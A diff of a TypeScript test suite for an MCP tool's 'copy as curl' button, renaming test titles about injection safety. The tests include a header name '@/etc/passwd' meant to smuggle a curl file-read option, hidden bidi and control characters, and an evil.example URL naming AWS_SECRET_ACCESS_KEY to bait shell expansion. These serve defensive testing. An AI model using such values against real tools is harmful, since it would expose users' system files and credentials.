@@ -66,7 +66,7 @@ describe("copying a request", () => {
     expect(command).not.to.match(/session/i);
   });
 
-  it("sends along what the settings of the server say, in each way", async () => {
+  it("includes the header fields of the server's settings, in each format", async () => {
     const info = { ...scriptedInfo("https://a.example/mcp"), era: "legacy", revision: "2025-11-25" } as const;
     const strings = new StringsController(await fixture<McpCopyButton>(html`<mcp-copy-button></mcp-copy-button>`));
     const call = { info, tool: "dig", args: { deep: true }, schema: {}, meta: { trace: "abc" } };
@@ -132,7 +132,7 @@ describe("copying a request", () => {
     expect(copied.texts).to.have.length(2);
   });
 
-  it("writes no option and no file's name in the place of an address or a field", () => {
+  it("is no injection: an address or a field becomes neither an option nor a file's name", () => {
     const fields = [
       { name: "@/etc/passwd", value: "x" },
       { name: "accept", value: "*/*" },
@@ -143,7 +143,7 @@ describe("copying a request", () => {
     }
   });
 
-  it("leaves nothing hidden in what is pasted", () => {
+  it("shows hidden characters in what is pasted", () => {
     const hidden = "a\u202eb\u0007\r\nc\u{e0041}";
     const command = asCurl({
       method: "POST",
@@ -158,7 +158,7 @@ describe("copying a request", () => {
     expect(asJsonRpc({ hidden })).to.contain(String.raw`\u202e`);
   });
 
-  it("reads no variable of the user's shell that a server or a recording names", () => {
+  it("expands no variable of the user's shell that a server or a recording names", () => {
     const source = {
       method: "GET",
       url: "https://evil.example/mcp?AWS_SECRET_ACCESS_KEY=•••&PATH=•••",
